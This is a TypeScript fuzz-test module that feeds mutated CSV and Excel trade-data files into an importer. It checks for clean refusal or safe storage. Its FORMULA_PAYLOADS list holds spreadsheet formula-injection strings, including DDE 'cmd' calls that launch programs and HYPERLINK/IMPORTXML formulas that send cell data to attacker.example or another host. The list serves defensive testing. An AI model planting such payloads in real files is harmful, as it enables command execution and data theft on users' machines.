// Property-based fuzzing of the importer through its public entry point (importFile, as
// `npm run import` calls it): valid files of each format, mutated (truncated, bits flipped,
// re-encoded, giant fields, spreadsheet formula payloads), must either be refused with the
// importer's own error naming where the problem is, and leave the database exactly as it was,
// or be imported safely, with formula payloads stored as plain text and neutralised on export.
// Used by scripts/import-fuzz.int.test.ts (short) and `npm run test:reliability -- --long`.
import { readFileSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { parse } from 'csv-parse/sync';
import { stringify } from 'csv-stringify/sync';
import ExcelJS from 'exceljs';
import fc from 'fast-check';
import type postgres from 'postgres';
import { csvCell } from '../../lib/export/csv-writer';
import { OBSERVATION_EXPORT_COLUMNS } from '../../lib/export/observation-export';
import { importFile, ImportOptionsError } from '../../lib/import/import-file';
import { formatProblem, ImportRejectedError } from '../../lib/import/problems';
import { comtradeCsv, imfSdmx20, UZBEKISTAN_DOTS, writeDotsWorkbook } from '../../lib/testing/import-fixtures';

export const FUZZ_FORMATS = ['tidy', 'imf-dots', 'sdmx-csv', 'comtrade'] as const;
export type FuzzFormat = (typeof FUZZ_FORMATS)[number];

/** Sources the fuzzed files write to (test_* so that other tests' clean-ups leave them alone or remove them). */
const SOURCE_IDS: Record<FuzzFormat, string> = {
  tidy: 'test_fuzz_tidy',
  'imf-dots': 'test_fuzz_dots',
  'sdmx-csv': 'test_fuzz_sdmx',
  comtrade: 'test_fuzz_comtrade',
};

/** What a spreadsheet would run if the text were pasted into a cell as it is. */
export const FORMULA_PAYLOADS = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(1,1)',
  '=HYPERLINK("http://attacker.example/?"&A1,"click")',
  "=cmd|' /C calc'!A0",
  "+cmd|' /C notepad'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(A1:A9)*cmd|' /C calc'!A0",
  '=IMPORTXML(CONCAT("http://x/?",A1),"//a")',
];
const FORMULA_START = /^[=+\-@]/;

export interface FuzzCase {
  format: FuzzFormat;
  /** Cell edits before the file is written: [row, column, new text] (row 0 is the header for CSV). */
  edits: { row: number; column: number; text: string; formulaCell?: boolean }[];
  bytes: ByteMutation;
}

type ByteMutation =
  | { kind: 'none' }
  | { kind: 'truncate'; at: number }
  | { kind: 'flip'; bits: [number, number][] }
  | { kind: 'encoding'; to: 'latin1' | 'utf16le-bom' | 'utf16be-bom' | 'utf16le' | 'mojibake' };

export interface ImportFuzzStats {
  runs: number;
  refused: number;
  imported: number;
  formulaPayloadsChecked: number;
}

// ---------------------------------------------------------------------------------------------
// Valid seed files

interface CsvSeed {
  kind: 'csv';
  grid: string[][];
  delimiter: string;
  eol: string;
  /** Columns whose text is stored as it is (free text): where formula payloads must survive as text. */
  textColumns: number[];
}
interface XlsxSeed {
  kind: 'xlsx';
  buffer: Buffer;
}
type Seed = CsvSeed | XlsxSeed;

const TIDY_HEADER = [
  'source_id',
  'reporter',
  'reporter_code',
  'partner',
  'partner_code',
  'year',
  'period',
  'flow',
  'value',
  'unit',
  'scale',
  'flag',
  'note',
];

function tidySeed(): CsvSeed {
  const row = (partner: string, code: string, year: number, flow: string, value: string, note: string) => [
    SOURCE_IDS.tidy,
    'Kazakhstan',
    'KAZ',
    partner,
    code,
    String(year),
    'FY',
    flow,
    value,
    'USD',
    '1e6',
    '',
    note,
  ];
  return {
    kind: 'csv',
    grid: [
      TIDY_HEADER,
      row('Germany', 'DEU', 1951, 'export', '12.5', 'fuzz seed'),
      row('France', 'FRA', 1951, 'import', '3.25', 'fuzz seed, quoted'),
      row('China', 'CHN', 1952, 'export', '7', 'Кириллица и «кавычки»'),
    ],
    delimiter: ',',
    eol: '\n',
    textColumns: [12],
  };
}

function csvSeed(text: string, textColumns: number[]): CsvSeed {
  const eol = text.includes('\r\n') ? '\r\n' : '\n';
  return {
    kind: 'csv',
    grid: parse(text, { relax_column_count: true }) as string[][],
    delimiter: ',',
    eol,
    textColumns,
  };
}

async function seeds(dir: string): Promise<Record<FuzzFormat, Seed>> {
  const workbook = path.join(dir, 'seed-dots.xlsx');
  await writeDotsWorkbook(workbook, UZBEKISTAN_DOTS);
  const kaz = ['398', 'KAZ', 'Kazakhstan'] as [string, string, string];
  return {
    tidy: tidySeed(),
    'imf-dots': { kind: 'xlsx', buffer: readFileSync(workbook) },
    'sdmx-csv': csvSeed(
      imfSdmx20([
        { reporter: 'KAZ', partner: 'TUR', indicator: 'XG_FOB_USD', period: '1953', value: '2890.5' },
        { reporter: 'KAZ', partner: 'TUR', indicator: 'MG_CIF_USD', period: '1953', value: '1210.25', status: 'E' },
        { reporter: 'KAZ', partner: 'ARM', indicator: 'XG_FOB_USD', period: '1953-04', value: '11' },
      ]),
      [],
    ),
    comtrade: csvSeed(
      comtradeCsv([
        { reporter: kaz, partner: ['384', 'CIV', "Côte d'Ivoire"], flow: 'X', year: 1954, value: '1500000' },
        { reporter: kaz, partner: ['51', 'ARM', 'Armenia'], flow: 'M', year: 1954, value: '2500.75' },
        { reporter: kaz, partner: ['51', 'ARM', 'Armenia'], flow: 'X', year: 1954, month: 3, value: '17' },
      ]),
      [],
    ),
  };
}

// ---------------------------------------------------------------------------------------------
// Mutations

// Far beyond any real cell (a note is a sentence, a value 20 digits), yet small enough for
// hundreds of runs: the readers' limits are per cell, so 300 KB tests them as well as 30 MB.
const giantText = fc.oneof(
  fc.integer({ min: 70_000, max: 300_000 }).map((n) => 'x'.repeat(n)),
  fc.integer({ min: 400, max: 100_000 }).map((n) => '9'.repeat(n)),
  fc.integer({ min: 1_000, max: 20_000 }).map((n) => `${'line\n'.repeat(n)}"`),
);
const cellText = fc.oneof(
  { weight: 4, arbitrary: fc.constantFrom(...FORMULA_PAYLOADS) },
  { weight: 1, arbitrary: fc.constantFrom(...FORMULA_PAYLOADS).map((p) => `\t${p}`) },
  { weight: 1, arbitrary: giantText },
  { weight: 1, arbitrary: fc.string({ unit: 'binary', maxLength: 30 }) },
);

function caseArbitrary(format: FuzzFormat, fileSize: number, textColumns: number[]): fc.Arbitrary<FuzzCase> {
  const anyColumn = fc.integer({ min: 0, max: format === 'comtrade' ? 46 : 12 });
  const edit = fc.record({
    row: fc.integer({ min: 0, max: 8 }),
    // Free-text columns often: a formula there is valid input, and must be stored safely.
    column: textColumns.length > 0 ? fc.oneof(anyColumn, fc.constantFrom(...textColumns)) : anyColumn,
    text: cellText,
    formulaCell: fc.boolean(),
  });
  const bytes: fc.Arbitrary<ByteMutation> = fc.oneof(
    { weight: 3, arbitrary: fc.constant({ kind: 'none' as const }) },
    {
      weight: 1,
      arbitrary: fc
        .integer({ min: 0, max: Math.max(0, fileSize - 1) })
        .map((at) => ({ kind: 'truncate' as const, at })),
    },
    {
      weight: 2,
      arbitrary: fc
        .array(fc.tuple(fc.nat(), fc.integer({ min: 0, max: 7 })), { minLength: 1, maxLength: 16 })
        .map((bits) => ({ kind: 'flip' as const, bits })),
    },
    {
      weight: 2,
      arbitrary: fc
        .constantFrom('latin1', 'utf16le-bom', 'utf16be-bom', 'utf16le', 'mojibake')
        .map((to) => ({ kind: 'encoding' as const, to: to as 'latin1' })),
    },
  );
  return fc.record({ format: fc.constant(format), edits: fc.array(edit, { maxLength: 3 }), bytes });
}

function encode(text: string, to: Extract<ByteMutation, { kind: 'encoding' }>['to']): Buffer {
  switch (to) {
    case 'latin1':
      return Buffer.from(text, 'latin1');
    case 'utf16le':
      return Buffer.from(text, 'utf16le');
    case 'utf16le-bom':
      return Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(text, 'utf16le')]);
    case 'utf16be-bom': {
      const le = Buffer.from(text, 'utf16le');
      return Buffer.concat([Buffer.from([0xfe, 0xff]), le.swap16()]);
    }
    case 'mojibake':
      // UTF-8 bytes read as Latin-1 and saved again as UTF-8: "Ã´" for "ô".
      return Buffer.from(Buffer.from(text, 'utf8').toString('latin1'), 'utf8');
  }
}

async function render(seed: Seed, c: FuzzCase): Promise<{ bytes: Buffer; grid: string[][] | null }> {
  let bytes: Buffer;
  let grid: string[][] | null = null;
  if (seed.kind === 'csv') {
    grid = seed.grid.map((r) => [...r]);
    for (const e of c.edits) {
      const row = grid[e.row % grid.length];
      if (row) row[e.column % row.length] = e.text;
    }
    const text = stringify(grid, {
      delimiter: seed.delimiter,
      record_delimiter: seed.eol === '\r\n' ? 'windows' : 'unix',
    });
    bytes = c.bytes.kind === 'encoding' ? encode(text, c.bytes.to) : Buffer.from(text, 'utf8');
  } else {
    bytes = seed.buffer;
    if (c.edits.length > 0) {
      const workbook = new ExcelJS.Workbook();
      await workbook.xlsx.load(seed.buffer as unknown as ArrayBuffer);
      for (const e of c.edits) {
        const sheet = workbook.worksheets[e.row % workbook.worksheets.length];
        // Rows 7-13 hold the years, labels and values; columns B-E the labels and three years.
        const cell = sheet?.getCell(7 + (e.row % 7), 2 + (e.column % 4));
        if (cell)
          cell.value = e.formulaCell && FORMULA_START.test(e.text) ? { formula: e.text.slice(1), result: 2 } : e.text;
      }
      bytes = Buffer.from(await workbook.xlsx.writeBuffer());
    }
  }
  if (c.bytes.kind === 'truncate') bytes = bytes.subarray(0, c.bytes.at % Math.max(1, bytes.length));
  if (c.bytes.kind === 'flip') {
    bytes = Buffer.from(bytes);
    for (const [at, bit] of c.bytes.bits) {
      const i = at % Math.max(1, bytes.length);
      if (bytes.length > 0) bytes[i] = (bytes[i] ?? 0) ^ (1 << bit);
    }
  }
  return { bytes, grid: c.bytes.kind === 'none' ? grid : null };
}

// ---------------------------------------------------------------------------------------------
// The property

/**
 * Row counts and checksums of the tables an import writes (and the ones it may add to), so a
 * refused file is proven to have left no trace, not just no new observations.
 */
export async function importTablesChecksum(sql: postgres.Sql): Promise<string> {
  const [row] = await sql<{ fp: string }[]>`
    SELECT concat_ws(' ',
      (SELECT count(*) || ':' || coalesce(sum(hashtext(t::text)::bigint), 0) FROM observation t),
      (SELECT count(*) || ':' || coalesce(sum(hashtext(t::text)::bigint), 0) FROM observation_revision t),
      (SELECT count(*) || ':' || coalesce(sum(hashtext(t::text)::bigint), 0) FROM import_batch t),
      (SELECT count(*) || ':' || coalesce(sum(hashtext(t::text)::bigint), 0) FROM source t),
      (SELECT count(*) || ':' || coalesce(sum(hashtext(t::text)::bigint), 0) FROM partner t)
    ) AS fp`;
  return row?.fp ?? '';
}

/** Seeds are a few KB and giant cells at most 300 KB: any import taking this long is stuck. */
const IMPORT_TIME_LIMIT_MS = 20_000;

class ImportHangError extends Error {
  constructor(ms: number) {
    super(`importFile neither finished nor failed within ${ms / 1000} s`);
  }
}

const STACK_LINE = /\n\s+at |node_modules|\.tsx?:\d+:\d+/;
/** A place a user can find: a line, a worksheet row or a cell. */
const PLACE = /\b(line \d+|row \d+|cell [A-Z]+\d+)\b/;
const NOTE_EXPORT = OBSERVATION_EXPORT_COLUMNS.find((c) => c.key === 'note');

function describeCase(c: FuzzCase): string {
  const edits = c.edits.map(
    (e) =>
      `[${e.row},${e.column}] ${JSON.stringify(e.text.slice(0, 40))}${e.text.length > 40 ? `… (${e.text.length} chars)` : ''}${e.formulaCell ? ' as formula' : ''}`,
  );
  return `${c.format}: edits ${edits.join('; ') || 'none'}; bytes ${JSON.stringify(c.bytes).slice(0, 200)}`;
}

export async function ensureFuzzSources(sql: postgres.Sql): Promise<void> {
  // Tidy files name an existing source; the other formats create theirs from the file.
  await sql`
    INSERT INTO source (id, kind, title, publisher, attribution)
    VALUES (${SOURCE_IDS.tidy}, 'STATISTICAL_DATASET', 'Import fuzz (tidy)', 'Tests', 'Test data, not published')
    ON CONFLICT (id) DO NOTHING`;
}

/** Removes what accepted fuzz files wrote, so the database is as the seed left it. */
export async function removeFuzzData(sql: postgres.Sql): Promise<void> {
  const ids = Object.values(SOURCE_IDS);
  await sql`DELETE FROM observation_revision WHERE observation_id IN (SELECT id FROM observation WHERE source_id IN ${sql(ids)})`;
  await sql`DELETE FROM observation WHERE source_id IN ${sql(ids)}`;
  // Tidy files name their source per row; their batches are known by the fuzz file's name.
  await sql`DELETE FROM import_batch WHERE source_id IN ${sql(ids)} OR file_name LIKE 'fuzz-%'`;
  await sql`DELETE FROM source WHERE id IN ${sql(ids)}`;
}

async function checkCase(
  sql: postgres.Sql,
  dir: string,
  seed: Seed,
  c: FuzzCase,
  stats: ImportFuzzStats,
): Promise<void> {
  const { bytes, grid } = await render(seed, c);
  const file = path.join(dir, `fuzz-${c.format}${seed.kind === 'xlsx' ? '.xlsx' : '.csv'}`);
  writeFileSync(file, bytes);
  const before = await importTablesChecksum(sql);
  stats.runs += 1;
  let outcome: unknown;
  let timer: NodeJS.Timeout | undefined;
  try {
    // A file that makes the importer hang is as bad as one that crashes it: the user waits forever.
    const hung = new Promise<never>((_, reject) => {
      timer = setTimeout(() => reject(new ImportHangError(IMPORT_TIME_LIMIT_MS)), IMPORT_TIME_LIMIT_MS);
    });
    outcome = await Promise.race([
      importFile(sql, file, { sourceId: c.format === 'tidy' ? undefined : SOURCE_IDS[c.format] }),
      hung,
    ]);
  } catch (error) {
    outcome = error;
  } finally {
    clearTimeout(timer);
  }
  if (outcome instanceof ImportHangError) throw outcome;
  if (outcome instanceof ImportRejectedError || outcome instanceof ImportOptionsError) {
    stats.refused += 1;
    if (STACK_LINE.test(outcome.message))
      throw new Error(`stack trace in the message: ${outcome.message.slice(0, 300)}`);
    if (outcome instanceof ImportRejectedError) {
      if (outcome.problems.length === 0) throw new Error(`refused without a problem: ${outcome.message}`);
      for (const p of outcome.problems) {
        const text = formatProblem(file, p);
        if (!Number.isInteger(p.line) || p.line < 1 || !p.column || !PLACE.test(text) || STACK_LINE.test(text)) {
          throw new Error(`problem without a clear place: ${text.slice(0, 300)}`);
        }
      }
    }
    const after = await importTablesChecksum(sql);
    if (after !== before) throw new Error(`refused, yet the database changed: ${before} -> ${after}`);
    return;
  }
  if (outcome instanceof Error || typeof outcome !== 'object' || outcome === null) {
    // Not the importer's user-facing error: a crash the user would see as a stack trace.
    throw new Error(
      `unexpected ${outcome instanceof Error ? `${outcome.name}: ${outcome.message}` : String(outcome)}`.slice(0, 500),
    );
  }
  stats.imported += 1;
  if (!grid || seed.kind !== 'csv') return;
  // Accepted unchanged bytes: every formula payload in a free-text column is stored as the text
  // it is (trimmed like every cell), never evaluated, and the export neutralises it.
  for (const row of grid.slice(1)) {
    for (const column of seed.textColumns) {
      const text = row[column]?.trim() ?? '';
      if (!FORMULA_START.test(text)) continue;
      const stored = await sql<
        { note: string | null }[]
      >`SELECT note FROM observation WHERE source_id = ${SOURCE_IDS[c.format]} AND note = ${text}`;
      if (stored.length === 0) throw new Error(`formula payload not stored as text: ${JSON.stringify(text)}`);
      const exported = NOTE_EXPORT ? csvCell(NOTE_EXPORT.type, text) : text;
      if (!exported.startsWith("'")) throw new Error(`formula payload exported as is: ${JSON.stringify(exported)}`);
      stats.formulaPayloadsChecked += 1;
    }
  }
}

/**
 * Runs `runsPerFormat` mutated files of each format through importFile. Throws (with fast-check's
 * counterexample and the case described) at the first file that breaks the property.
 */
export async function runImportFuzz(
  sql: postgres.Sql,
  options: { dir: string; runsPerFormat: number; seed?: number },
): Promise<ImportFuzzStats> {
  const stats: ImportFuzzStats = { runs: 0, refused: 0, imported: 0, formulaPayloadsChecked: 0 };
  const all = await seeds(options.dir);
  await ensureFuzzSources(sql);
  // Each format runs its full count even when another one fails, so one bug hides no other.
  const failures: string[] = [];
  for (const format of FUZZ_FORMATS) {
    const seed = all[format];
    const size = seed.kind === 'xlsx' ? seed.buffer.length : stringify(seed.grid).length;
    await fc
      .assert(
        fc.asyncProperty(caseArbitrary(format, size, seed.kind === 'csv' ? seed.textColumns : []), async (c) => {
          try {
            await checkCase(sql, options.dir, seed, c, stats);
          } catch (error) {
            throw new Error(`${describeCase(c)}\n  ${error instanceof Error ? error.message : String(error)}`);
          }
        }),
        { numRuns: options.runsPerFormat, seed: options.seed, endOnFailure: true },
      )
      .catch((error: unknown) => failures.push(`${format}: ${error instanceof Error ? error.message : String(error)}`));
  }
  if (failures.length > 0)
    throw new Error(
      `import fuzz failed for ${failures.length} format(s); ${JSON.stringify(stats)}\n${failures.join('\n')}`,
    );
  return stats;
}
